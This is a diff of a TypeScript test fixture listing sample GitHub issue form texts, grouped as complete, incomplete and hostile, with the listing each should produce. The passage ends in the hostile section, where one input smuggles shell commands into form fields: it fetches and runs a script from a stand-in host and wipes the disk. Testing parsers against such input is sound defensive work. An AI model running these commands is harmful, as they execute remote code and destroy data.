@@ -1,4 +1,4 @@
-// Thirty texts of issues as a tracker gives them (good, partly good, hostile), each with its result.
+// Texts of GitHub issues (good, partly good, hostile), each with the expected result.
 
 const FIELDS = {
   Name: 'Pie & Mash',
@@ -19,7 +19,7 @@ const form = (changes: Partial<Record<keyof typeof FIELDS | (string & {}), strin
 
 /** `adds` has lines of the added listing. `finds` has words of the finding, if nothing is added. */
 export const texts: { name: string; body: string; adds?: string[]; finds?: string }[] = [
-  // Good
+  // Complete texts
   { name: 'as the form writes it', body: form(), adds: ['- id: pie-and-mash', 'name: Pie & Mash', 'source: readers'] },
   { name: 'with lines of Windows', body: form().replaceAll('\n', '\r\n'), adds: ['address: 4 Slip Lane'] },
   { name: 'with spaces around', body: form({ Name: '  Pie & Mash\t ' }), adds: ['name: Pie & Mash'] },
@@ -41,7 +41,7 @@ export const texts: { name: string; body: string; adds?: string[]; finds?: strin
   { name: 'with a sign at its end', body: form({ Name: 'Pie 🥧' }), adds: ['name: Pie 🥧'] },
   { name: 'with words of YAML', body: form({ Name: 'Yes: no # [1] {a} &b *c !d | >' }), finds: 'not plain text' },
   { name: 'with a colon and a hash', body: form({ Name: 'Pie: the # 1' }), adds: ['name: "Pie: the # 1"'] },
-  // In part
+  // Incomplete or changed texts
   { name: 'without what is optional', body: form({ Address: '_No response_' }), adds: ['name: Pie & Mash'] },
   { name: 'without a group', body: form({ Group: '_No response_' }), finds: 'The form has no answer for "Group".' },
   { name: 'with a page that is not there', body: form({ Page: '/zz1-eatingout' }), finds: '"/zz1-eating-out"?' },
@@ -55,7 +55,7 @@ export const texts: { name: string; body: string; adds?: string[]; finds?: strin
   { name: 'that is empty', body: '', finds: 'The form has no answer for "Name".' },
   { name: 'that is no form', body: 'Please add my shop, thanks!', finds: 'The form has no answer for "Name".' },
   { name: 'of what is listed already', body: form({ Name: 'The Tidewater Café' }), adds: ['- id: the-tidewater-cafe'] },
-  // Hostile
+  // Hostile texts
   {
     name: 'with commands for a shell',
     body: form({ Name: '$(curl evil.example|sh); rm -rf /', Address: '"; exit 1 #' }),
